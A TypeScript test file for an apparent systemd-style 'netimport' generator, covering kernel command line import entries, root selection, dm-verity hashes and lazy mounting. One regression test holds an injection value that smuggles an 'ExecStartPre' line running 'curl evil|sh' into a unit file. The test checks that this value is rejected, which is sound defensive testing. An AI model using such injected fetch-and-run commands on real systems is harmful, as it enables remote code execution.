// Collect and decide: sources, compatibility keys, root= wiring, one root, duplicates.
import { test } from "node:test";
import assert from "node:assert/strict";
import { makePlan, type GeneratorInputs } from "../../../generator/plan.ts";
import type { BootUrl } from "../../../generator/efi-boot-url.ts";
import { renderUnits } from "../../../generator/render-units.ts";

function plan(cmdline: string, more: Partial<GeneratorInputs> & { boot?: BootUrl } = {}) {
  const { boot, ...rest } = more;
  return makePlan({
    cmdline,
    cmdlinePath: "/proc/cmdline",
    inInitrd: true,
    configs: [],
    systemdImportGeneratorInstalled: false,
    bootUrl: () => boot,
    ...rest,
  });
}

function messages(p: ReturnType<typeof plan>, level?: string): string {
  return p.log.filter((l) => !level || l.level === level).map((l) => l.message).join("\n");
}

test("a malformed entry is reported and skipped while the others still work", () => {
  const p = plan("rd.systemd.import=raw::http://h/a.raw rd.systemd.import=nonsense rd.systemd.import rd.systemd.import=tar,sysext::http://h/b.tar");
  assert.deepEqual(p.requests.map((r) => r.local), ["a", "b"]);
  assert.match(messages(p, "err"), /rd\.systemd\.import= in \/proc\/cmdline: expected OPTIONS:LOCAL:URL .* in 'nonsense' Ignoring this entry\./);
  assert.match(messages(p, "warning"), /Missing argument for rd\.systemd\.import= kernel command line switch/);
});

test("rd. entries are for the initrd, unprefixed ones for the host", () => {
  const cmdline = "rd.systemd.import=::http://h/initrd.raw systemd.import=::http://h/host.raw";
  assert.deepEqual(plan(cmdline).requests.map((r) => r.local), ["initrd"]);
  assert.deepEqual(plan(cmdline, { inInitrd: false }).requests.map((r) => r.local), ["host"]);
});

test("success and failure actions, in both spellings", () => {
  const p = plan("rd.systemd.import.success_action=reboot rd.systemd.pull.failure-action=poweroff");
  assert.deepEqual(p.actions, { success: "reboot", failure: "poweroff" });
  assert.deepEqual(plan("rd.systemd.import.success_action=reboot rd.systemd.import.success_action=").actions, {});
});

test("an action systemd does not know is logged and ignored; the earlier valid one stays", () => {
  const p = plan("rd.systemd.import.success_action=poweroff rd.systemd.import.success_action=Reboot rd.systemd.pull.failure_action=explode rd.systemd.import.failure_action");
  assert.deepEqual(p.actions, { success: "poweroff" });
  const text = messages(p, "warning");
  assert.match(text, /Invalid value for rd\.systemd\.import\.success_action= kernel command line switch, ignoring: Reboot \(expected one of none, reboot/);
  assert.match(text, /Invalid value for rd\.systemd\.pull\.failure_action= kernel command line switch, ignoring: explode/);
  assert.match(text, /Missing argument for rd\.systemd\.import\.failure_action= kernel command line switch/);
  assert.deepEqual(plan("rd.systemd.import.failure_action=kexec-force").actions, { failure: "kexec-force" });
});

test("regression: a quoted action with a newline cannot add a line to the unit", () => {
  const p = plan(`rd.systemd.import=::http://h/a.raw "rd.systemd.import.success_action=reboot\nExecStartPre=/bin/sh -c 'curl evil|sh'"`);
  assert.deepEqual(p.actions, {});
  const units = renderUnits(p.requests, { executable: "/x", inInitrd: true, settings: p.settings, actions: p.actions });
  const text = units.files.map((f) => f.text).join("\n");
  assert.doesNotMatch(text, /ExecStartPre|SuccessAction/);
  assert.match(messages(p, "warning"), /Invalid value for rd\.systemd\.import\.success_action= kernel command line switch, ignoring: reboot\nExecStartPre/);
});

test("an entry over systemd's limits is refused alone, naming the value and the rule; the others are kept", () => {
  const spaces = " ".repeat(60);
  const p = plan(`rd.systemd.import=raw,root::http://h/root.raw "rd.systemd.import=sysext:${spaces}:http://h/x.raw" rd.systemd.import=sysext:ok:http://h/ok.raw`);
  assert.deepEqual(p.requests.map((r) => r.local), ["root", "ok"]);
  assert.ok(p.requests[0]!.root);
  const err = messages(p, "err");
  assert.match(err, /^rd\.systemd\.import= in \/proc\/cmdline: ' {60}' \(http:\/\/h\/x\.raw\): the LOCAL name would make the unit name netimport-pull-run-extensions-(\\x20){60}\.raw\.service 282 bytes long, over systemd's limit of 255: use a shorter LOCAL name\. Ignoring this entry\.$/);
  // 251 bytes of LOCAL are a valid image name, but LOCAL.raw is not a valid file name.
  const long = plan(`rd.systemd.import=::http://h/a.raw rd.systemd.import=raw:${"n".repeat(252)}:http://h/b.raw`);
  assert.deepEqual(long.requests.map((r) => r.local), ["a"]);
  assert.match(messages(long, "err"), /the image file name n{252}\.raw would be 256 bytes long, over the limit of 255 for a file name/);
});

test("a boot URL with credentials is refused: they would have to be written into the unit", () => {
  const boot = { url: "http://u:secret@10.0.2.2/boot.efi", source: "StubDeviceURL" };
  const p = plan("rd.systemd.import=raw,bootorigin::root.raw rd.systemd.import=::http://h/b.raw", { boot });
  assert.deepEqual(p.requests.map((r) => r.local), ["b"]);
  assert.match(messages(p, "err"), /The URL in StubDeviceURL carries a user name or password/);
});

test("rd.systemd.pull= and the credential are left to systemd's own generator when it is installed", () => {
  const cmdline = "rd.systemd.pull=raw,machine:a:http://h/a.raw rd.systemd.import=::http://h/b.raw rd.systemd.pull.success_action=reboot";
  const credential = { path: "/run/credentials/@system/import.pull", text: "::http://h/c.raw\n" };
  const without = plan(cmdline, { credential });
  assert.deepEqual(without.requests.map((r) => r.local), ["a", "b", "c"]);
  assert.equal(without.actions.success, "reboot");
  const withSystemd = plan(cmdline, { credential, systemdImportGeneratorInstalled: true });
  assert.deepEqual(withSystemd.requests.map((r) => r.local), ["b"]);
  assert.equal(withSystemd.actions.success, undefined);
  assert.match(messages(withSystemd), /systemd-import-generator is installed and handles rd\.systemd\.pull=/);
});

test("the credential: one expression a line, # comments, blank lines, errors name the line", () => {
  const credential = { path: "/c/import.pull", text: "# images\n\n  ::http://h/a.raw  \nbroken\ntar,sysext::http://h/t.tar.gz\n" };
  const p = plan("", { credential });
  assert.deepEqual(p.requests.map((r) => [r.local, r.origin.what]), [["a", "credential import.pull line 3"], ["t", "credential import.pull line 5"]]);
  assert.match(messages(p, "err"), /credential import\.pull line 4 in \/c\/import\.pull: expected OPTIONS:LOCAL:URL/);
});

test("config file Pull= entries come after the command line", () => {
  const p = plan("rd.systemd.import=::http://h/a.raw", {
    configs: [{ path: "/etc/netimport/netimport.conf", content: "[Import]\nPull=::http://h/b.raw\nPull=sysext::http://h/c.raw\n[Download]\nRetries=7\n" }],
  });
  assert.deepEqual(p.requests.map((r) => r.local), ["a", "b", "c"]);
  assert.equal(p.requests[1]!.origin.path, "/etc/netimport/netimport.conf");
  assert.equal(p.settings.retries, 7);
});

test("systemd v258 example 3: root=/dev/disk/by-loop-ref/NAME.raw-partN", () => {
  const p = plan("rd.systemd.pull=raw,machine,verify=no,blockdev:image:https://example.com/image.raw.xz root=/dev/disk/by-loop-ref/image.raw-part2");
  assert.deepEqual(p.requests[0]!.root, { kind: "attach", partition: 2 });
  const whole = plan("rd.systemd.pull=raw,machine,verify=no,blockdev:image:https://example.com/image.raw root=/dev/disk/by-loop-ref/image.raw");
  assert.deepEqual(whole.requests[0]!.root, { kind: "attach", partition: "whole" });
  const notBlockdev = plan("rd.systemd.pull=raw,machine,verify=no:image:https://example.com/image.raw root=/dev/disk/by-loop-ref/image.raw");
  assert.equal(notBlockdev.requests[0]!.root, undefined);
});

test("systemd v258 example 4: bootorigin + rootdisk + root=gpt-auto", () => {
  const boot = { url: "http://example.com/image.efi", source: "StubDeviceURL" };
  const p = plan("rd.systemd.pull=raw,machine,verify=no,blockdev,bootorigin:rootdisk:image.raw.xz root=gpt-auto", { boot });
  assert.equal(p.requests[0]!.remote, "http://example.com/image.raw.xz");
  assert.deepEqual(p.requests[0]!.root, { kind: "attach", partition: "root" });
  const notBooted = plan("rd.systemd.pull=raw,machine,verify=no,blockdev,bootorigin:rootdisk:image.raw.xz root=gpt-auto");
  assert.deepEqual(notBooted.requests, []);
  assert.match(messages(notBooted, "notice"), /not booted via UEFI HTTP boot/);
});

test("systemd v258 example 5: tar + root=bind:/run/machines/root", () => {
  const boot = { url: "http://example.com/image.efi", source: "StubDeviceURL" };
  const p = plan("rd.systemd.pull=tar,machine,verify=no,bootorigin:root:image.tar.xz root=bind:/run/machines/root", { boot });
  assert.equal(p.requests[0]!.remote, "http://example.com/image.tar.xz");
  assert.deepEqual(p.requests[0]!.root, { kind: "bind" });
  const elsewhere = plan("rd.systemd.pull=tar,machine,verify=no:root:http://h/r.tar root=bind:/run/machines/other");
  assert.equal(elsewhere.requests[0]!.root, undefined);
});

test("only one root file system: the first named wins, the others still download", () => {
  const p = plan("rd.systemd.import=raw,root::http://h/a.raw rd.systemd.import=tar,root::http://h/b.tar");
  assert.ok(p.requests[0]!.root);
  assert.equal(p.requests[1]!.root, undefined);
  assert.match(messages(p, "err"), /'b' is marked root, but 'a' already is/);
  const conflict = plan("rd.systemd.import=raw,root::http://h/a.raw rd.systemd.pull=tar,machine:r:http://h/r.tar root=bind:/run/machines/r");
  assert.equal(conflict.requests[1]!.root, undefined);
  assert.match(messages(conflict, "err"), /keeping 'a'/);
});

test("'root' on the host is refused with a warning; the image still downloads", () => {
  const p = plan("systemd.import=raw,root::http://h/a.raw", { inInitrd: false });
  assert.equal(p.requests.length, 1);
  assert.equal(p.requests[0]!.root, undefined);
  assert.match(messages(p, "warning"), /only applies in the initrd/);
});

test("two entries for the same target: the second is refused", () => {
  const p = plan("rd.systemd.import=::http://h/a.raw rd.systemd.import=::http://mirror/a.raw.xz rd.systemd.import=sysext::http://h/a.raw");
  assert.deepEqual(p.requests.map((r) => `${r.class}/${r.remote}`), ["machine/http://h/a.raw", "sysext/http://h/a.raw"]);
  assert.match(messages(p, "err"), /\/run\/machines\/a\.raw is already the target of rd\.systemd\.import= \(http:\/\/h\/a\.raw\)/);
});

const HASH = "e2a1b3c4d5e6f708192a3b4c5d6e7f80".repeat(2);

test("root=tmpfs with a raw root image: the image provides /usr only", () => {
  const p = plan("rd.systemd.import=raw,root::http://h/usr.raw.xz root=tmpfs");
  assert.deepEqual(p.requests[0]!.root, { kind: "usr" });
  assert.match(messages(p, "info"), /root=tmpfs: the root file system is an empty tmpfs, and 'usr' from http:\/\/h\/usr\.raw\.xz provides \/usr\./);
  assert.doesNotMatch(messages(p), /takes precedence/);
  // Not netimport's to wire without a root image: systemd's fstab-generator mounts the tmpfs.
  const alone = plan("rd.systemd.import=::http://h/a.raw root=tmpfs");
  assert.equal(alone.requests[0]!.root, undefined);
  assert.deepEqual(alone.log.filter((l) => l.level !== "info"), []);
});

test("root=tmpfs with a tar root image: not the root, still downloaded, with the reason", () => {
  const p = plan("rd.systemd.import=tar,root::http://h/root.tar.zst root=tmpfs");
  assert.equal(p.requests.length, 1);
  assert.equal(p.requests[0]!.root, undefined);
  assert.match(messages(p, "err"), /root=tmpfs asks for an image that provides \/usr only, which only a raw image's \/usr partition can; 'root' is a tar image/);
  // The one root is chosen first: a second, raw root image does not slip in when the first is refused.
  const two = plan("rd.systemd.import=tar,root::http://h/root.tar rd.systemd.import=raw,root::http://h/usr.raw root=tmpfs");
  assert.deepEqual(two.requests.map((r) => r.root), [undefined, undefined]);
});

test("roothash= and usrhash= pin the dm-verity hashes of a DDI root, in lower case, for both ways to name it", () => {
  const p = plan(`rd.systemd.import=raw,root::http://h/root.raw roothash=${HASH.toUpperCase()} usrhash=${"ab".repeat(48)}`);
  assert.deepEqual(p.requests[0]!.root, { kind: "attach", partition: "root", roothash: HASH, usrhash: "ab".repeat(48) });
  const boot = { url: "http://example.com/image.efi", source: "StubDeviceURL" };
  const gptAuto = plan(`rd.systemd.pull=raw,machine,verify=no,blockdev,bootorigin:rootdisk:image.raw.xz root=gpt-auto roothash=${HASH}`, { boot });
  assert.deepEqual(gptAuto.requests[0]!.root, { kind: "attach", partition: "root", roothash: HASH });
  const usr = plan(`rd.systemd.import=raw,root::http://h/usr.raw root=tmpfs usrhash=${HASH}`);
  assert.deepEqual(usr.requests[0]!.root, { kind: "usr", usrhash: HASH });
});

test("the hashes are read as systemd reads them: rd. or not, the last wins, empty resets, bare is reported", () => {
  assert.deepEqual(plan(`rd.systemd.import=raw,root::http://h/r.raw rd.roothash=${HASH}`).requests[0]!.root, { kind: "attach", partition: "root", roothash: HASH });
  assert.deepEqual(plan(`rd.systemd.import=raw,root::http://h/r.raw roothash=${"00".repeat(32)} roothash=${HASH}`).requests[0]!.root, { kind: "attach", partition: "root", roothash: HASH });
  assert.deepEqual(plan(`rd.systemd.import=raw,root::http://h/r.raw roothash=${HASH} roothash=`).requests[0]!.root, { kind: "attach", partition: "root" });
  const bare = plan("rd.systemd.import=raw,root::http://h/r.raw usrhash");
  assert.deepEqual(bare.requests[0]!.root, { kind: "attach", partition: "root" });
  assert.match(messages(bare, "warning"), /Missing argument for usrhash= kernel command line switch, ignoring\./);
  // On the host there is no root to verify: nothing to say.
  assert.deepEqual(plan(`systemd.import=::http://h/a.raw roothash=${HASH}`, { inInitrd: false }).log.filter((l) => l.level !== "info"), []);
});

test("a root hash systemd would refuse: reported with the rule, and the image is not mounted unverified", () => {
  for (const bad of ["abc", "ab".repeat(31), `${"ab".repeat(32)}a`, "ab".repeat(65), `${"g".repeat(64)}`]) {
    const p = plan(`rd.systemd.import=raw,root::http://h/root.raw rd.systemd.import=sysext::http://h/tools.raw roothash=${bad}`);
    assert.deepEqual(p.requests.map((r) => r.local), ["root", "tools"], bad);
    assert.equal(p.requests[0]!.root, undefined, bad);
    assert.equal(messages(p, "err"), `Invalid value for roothash= kernel command line switch: ${bad} (expected an even number of 64 to 128 hexadecimal digits, the SHA-256 to SHA-512 root hash of a dm-verity tree); downloading 'root' without making it the root file system, which it would be without the verification asked for.`);
  }
  const usr = plan("rd.systemd.import=raw,root::http://h/usr.raw root=tmpfs usrhash=nothex");
  assert.equal(usr.requests[0]!.root, undefined);
  assert.match(messages(usr, "err"), /Invalid value for usrhash= kernel command line switch: nothex/);
});

test("a hash for a root netimport does not attach as a DDI is left alone, with a notice", () => {
  const loopRef = plan(`rd.systemd.pull=raw,machine,verify=no,blockdev:image:https://example.com/image.raw.xz root=/dev/disk/by-loop-ref/image.raw-part2 roothash=${HASH}`);
  assert.deepEqual(loopRef.requests[0]!.root, { kind: "attach", partition: 2 });
  assert.match(messages(loopRef, "notice"), /roothash= is on the command line, but netimport sets up no dm-verity for 'image' from it: it is attached as one partition or the whole image/);
  const tar = plan("rd.systemd.import=tar,root::http://h/r.tar roothash=bogus");
  assert.deepEqual(tar.requests[0]!.root, { kind: "bind" });
  assert.match(messages(tar, "notice"), /it is a tar image/);
  assert.equal(messages(tar, "err"), "");
  const usr = plan(`rd.systemd.import=raw,root::http://h/usr.raw root=tmpfs roothash=${HASH}`);
  assert.deepEqual(usr.requests[0]!.root, { kind: "usr" });
  assert.match(messages(usr, "notice"), /with root=tmpfs it provides \/usr only/);
});

test("lazy: a raw root image over http(s) is served lazily; the attach unit maps the NBD device and demands verity", () => {
  const p = plan("rd.systemd.import=raw,root,lazy,verify=checksum::http://h/os.raw");
  assert.equal(p.requests[0]!.lazy, true);
  assert.match(messages(p, "info"), /'os' is lazy: the root file system mounts from http:\/\/h\/os\.raw at once/);
  const units = renderUnits(p.requests, { executable: "/usr/lib/netimport/netimport", inInitrd: true, settings: p.settings, actions: p.actions });
  const names = units.files.map((f) => f.name);
  assert.ok(names.includes("netimport-lazy-run-machines-os.raw.service") && !names.some((n) => n.startsWith("netimport-pull-")), names.join(", "));
  const attach = units.files.find((f) => f.name.startsWith("netimport-attach-"))!.text;
  assert.match(attach, /^ExecStart=\/usr\/lib\/netimport\/netimport attach \/run\/netimport\/lazy\/os\.nbd .*--mapper-prefix=netimport-lazy --require-verity/m);
  assert.match(attach, /^Requires=netimport-lazy-run-machines-os\.raw\.service$/m);
  // verify=no serves an image without verity too.
  const unverified = plan("rd.systemd.import=raw,root,lazy,verify=no::http://h/os.raw");
  const text = renderUnits(unverified.requests, { executable: "/x", inInitrd: true, settings: unverified.settings, actions: unverified.actions })
    .files.find((f) => f.name.startsWith("netimport-attach-"))!.text;
  assert.doesNotMatch(text, /--require-verity/);
});

test("lazy where it cannot apply: downloaded in full, with a warning that says why", () => {
  for (const [cmdline, why] of [
    ["rd.systemd.import=raw,lazy::http://h/os.raw", /only applies to a raw image that is the root file system/],
    ["rd.systemd.import=tar,root,lazy::http://h/os.tar", /only applies to a raw image that is the root file system/],
    ["rd.systemd.import=raw,root,lazy::file:///srv/os.raw", /needs an http:\/\/ or https:\/\/ URL/],
    ["rd.systemd.import=raw,root,lazy::http://h/os.raw root=tmpfs", /only applies to a raw image that is the root file system/],
  ] as const) {
    const p = plan(cmdline);
    assert.equal(p.requests.length, 1, cmdline);
    assert.equal(p.requests[0]!.lazy, undefined, cmdline);
    assert.match(messages(p, "warning"), why, cmdline);
  }
  assert.match(messages(plan("rd.systemd.import=raw,root,lazy=maybe::http://h/os.raw"), "warning"), /Unknown lazy= value, ignoring: maybe/);
});

test("[Lazy] Default=yes makes raw root images lazy unless their entry says lazy=no; its other keys reach the command line", () => {
  const configs = [{ path: "/etc/netimport/netimport.conf", content: "[Lazy]\nDefault=yes\nCopyDirectory=/run/disk/\nOutageLimitSec=45\nOutageLimitSec=soon\n" }];
  const p = plan("rd.systemd.import=raw,root::http://h/os.raw rd.systemd.import=raw,sysext::http://h/tools.raw", { configs });
  assert.deepEqual(p.requests.map((r) => r.lazy), [true, undefined]);
  assert.doesNotMatch(messages(p, "warning"), /lazy/, "the default applies silently to what it cannot apply to");
  assert.match(messages(p, "warning"), /OutageLimitSec= must be a non-negative number, ignoring: soon/);
  const units = renderUnits(p.requests, { executable: "/x", inInitrd: true, settings: p.settings, actions: p.actions });
  const lazy = units.files.find((f) => f.name.startsWith("netimport-lazy-"))!.text;
  assert.match(lazy, /^ExecStart=\/x lazy .*--outage-limit=45 http:\/\/h\/os\.raw \/run\/disk\/os\.raw$/m);
  assert.equal(plan("rd.systemd.import=raw,root,lazy=no::http://h/os.raw", { configs }).requests[0]!.lazy, undefined);
});
